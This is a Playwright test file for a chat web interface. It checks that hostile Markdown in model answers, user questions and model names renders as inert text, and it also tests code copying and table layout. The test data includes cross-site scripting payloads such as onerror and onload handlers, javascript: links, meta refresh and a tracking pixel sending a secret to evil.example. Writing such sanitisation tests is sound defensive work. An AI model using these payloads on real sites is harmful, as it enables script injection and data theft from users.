import { expect, test } from "./chat-test";
import { askForAnswer } from "./written-answer";

const HOSTILE = `# A heading that is no title of the page

<img src=x onerror="window.pwned = true"> <script>window.pwned = true</script>
<iframe src="https://evil.example/frame"></iframe><svg onload="window.pwned = true">
<style>body { display: none }</style><meta http-equiv="refresh" content="0;url=https://evil.example/">

![tracker](https://evil.example/pixel.png?secret=1) ![relative](//evil.example/pixel.png) ![own](/chat?x=1)

[script](javascript:window.pwned=true) [tab](java\tscript:window.pwned=true) [data](data:text/html,<script>1</script>)
[entity](&#106;avascript:window.pwned=true) [relative](/models) [protocol](//evil.example/) [vb](vbscript:x)

[safe](https://example.org/page) <https://example.org/auto> [bank.example](https://evil.example/login)

<a href="https://evil.example" onclick="window.pwned=true">click</a>

data: {"done":true}

event: error

\`\`\`html
<b>code stays code</b>
\`\`\`
`;

test.describe("hostile Markdown", () => {
  test("is text and labelled links, and asks nothing of anybody", async ({ chat, ollama, page, context }) => {
    const opened: string[] = [];
    context.on("page", (popup) => opened.push(popup.url()));
    const answer = await askForAnswer(chat, ollama, "Attack me");
    answer.say(...(HOSTILE.match(/[\s\S]{1,3}/g) ?? []));
    answer.end();
    await expect(chat.strip).toHaveAttribute("data-phase", "done");

    const text = chat.answerText;
    await expect(
      text.locator("img, script, iframe, style, meta, object, embed, form, [onclick], [onload], [onerror]"),
    ).toHaveCount(0);
    // The two icons over the code are the page's own.
    await expect(text.locator("svg")).toHaveCount(2);
    await expect(text.locator(".md-tools > button > svg[aria-hidden]")).toHaveCount(2);
    await expect(text).toContainText('<svg onload="window.pwned = true">');
    await expect(text).toContainText('<img src=x onerror="window.pwned = true">');
    await expect(text).toContainText('<iframe src="https://evil.example/frame">');
    await expect(text).toContainText('data: {"done":true}');
    await expect(text.locator("pre code")).toHaveText("<b>code stays code</b>");
    expect(await page.evaluate(() => Object.hasOwn(window, "pwned"))).toBe(false);

    const links = await text
      .getByRole("link")
      .evaluateAll((anchors) => anchors.map((anchor) => [anchor.textContent, anchor.getAttribute("href")]));
    expect(links).toEqual([
      ["https://evil.example/frame", "https://evil.example/frame"],
      ["https://evil.example/", "https://evil.example/"],
      ["image: tracker", "https://evil.example/pixel.png?secret=1"],
      ["safe", "https://example.org/page"],
      ["https://example.org/auto", "https://example.org/auto"],
      ["bank.example", "https://evil.example/login"],
      ["https://evil.example", "https://evil.example/"],
    ]);
    await expect(text).toContainText("bank.example (evil.example)");
    await expect(text).toContainText("image: tracker (evil.example)");
    for (const link of await text.getByRole("link").all()) {
      await expect(link).toHaveAttribute("target", "_blank");
      await expect(link).toHaveAttribute("rel", /noopener/);
      await expect(link).toHaveAttribute("rel", /noreferrer/);
    }
    await expect(text.getByRole("heading", { level: 1 })).toHaveCount(0);
    await expect(text.getByRole("heading", { level: 3 })).toHaveText(
      "A heading that is no title of the page",
    );
    await expect(page).toHaveURL(/^http:\/\/[^/]+\/(\?chat=[0-9a-f]+)?$/);
    expect(opened).toEqual([]);
  });

  test("in a question stays what was written", async ({ chat, page }) => {
    const question = "<img src=x onerror=alert(1)> **not bold** [a](https://evil.example)";
    await chat.open();
    await chat.ask(question);
    await expect(chat.questions).toHaveText([question]);
    await expect(chat.questions.locator("*")).toHaveCount(0);
    await expect(chat.answerText).toHaveText("Hello from the fake.");
    await expect(page).toHaveTitle("Synapse");
  });

  test("in a model's name and an error stays text", async ({ chat, ollama }) => {
    const name = "<img src=x onerror=alert(1)>:latest";
    ollama.models([{ name, loaded: true }]);
    await chat.open();
    await expect(chat.model).toContainText(name);
    await chat.model.click();
    await expect(chat.option(name)).toContainText(name);
    await expect(chat.models.locator("img")).toHaveCount(0);
  });
});

test.describe("code and tables", () => {
  const CODE = 'const a = "<b>";\n\n\tif (a < 1) {}  ';

  test("Copy takes the code exactly, Copy answer the answer as it was written", async ({
    chat,
    ollama,
    page,
    context,
  }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    const markdown = `Look:\n\n\`\`\`ts\n${CODE}\n\`\`\`\n\nAnd *that* is all.`;
    ollama.chat([...[...markdown].map((text) => ({ text })), { done: {} }]);
    await chat.open();
    await chat.ask("Code, please");
    await expect(chat.strip).toHaveAttribute("data-phase", "done");
    await expect(chat.answerText.locator(".md-language")).toHaveText("TypeScript");
    await chat.answer.getByRole("button", { name: "Copy", exact: true }).click();
    await expect(chat.answer.getByRole("button", { name: "Copied" })).toBeVisible();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
    await chat.copyAnswer.click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(markdown);
  });

  test("a wide table and a long line scroll by themselves", { tag: "@phone" }, async ({
    chat,
    ollama,
    page,
  }) => {
    const columns = Array.from({ length: 24 }, (_, column) => `a long column name ${column}`);
    const table = [columns, columns.map(() => "---"), columns]
      .map((row) => `| ${row.join(" | ")} |`)
      .join("\n");
    const text = `${table}\n\n\`\`\`\n${"0123456789".repeat(60)}\n\`\`\`\n\n${"longword".repeat(60)}\n`;
    ollama.chat([{ text }, { done: {} }]);
    await chat.open();
    await chat.ask("Wide, please");
    await expect(chat.strip).toHaveAttribute("data-phase", "done");
    for (const box of [
      chat.answerText.getByRole("region", { name: "Table" }),
      chat.answerText.locator("pre"),
    ]) {
      const [inside, outside] = await box.evaluate((element) => [element.scrollWidth, element.clientWidth]);
      expect(inside).toBeGreaterThan(outside ?? 0);
      await box.evaluate((element) => element.scrollTo({ left: 100 }));
      expect(await box.evaluate((element) => element.scrollLeft)).toBe(100);
    }
    const { width } = page.viewportSize() ?? { width: 0 };
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    const { x, width: own } = await chat.boxOf(chat.answerText);
    expect(x + own).toBeLessThanOrEqual(width);
  });

  test("an address in a table leaves room for what stands beside it", { tag: "@phone" }, async ({
    chat,
    ollama,
    page,
  }) => {
    const table = (...rows: readonly string[]) => ["| Where | What it is |", "|---|---|", ...rows].join("\n");
    const address = `https://example.com/${"a_long_path/".repeat(8)}`;
    const prose = "This is what one finds there, in some words. ".repeat(4);
    const text = `${table(`| ${address} | ${prose} |`)}\n\n${table(`| \`${"x".repeat(500)}\` | ${prose} |`)}`;
    ollama.chat([{ text }, { done: {} }]);
    await chat.open();
    await chat.ask("Tables, please");
    await expect(chat.strip).toHaveAttribute("data-phase", "done");
    const { width } = page.viewportSize() ?? { width: 0 };
    const cells = chat.answerText.getByRole("cell", { name: "This is what" });
    await expect(cells).toHaveCount(2);
    for (const cell of await cells.all()) {
      const { x, width: own } = await chat.boxOf(cell);
      expect(own).toBeGreaterThan(125);
      expect(x + own).toBeLessThanOrEqual(width);
    }
  });
});
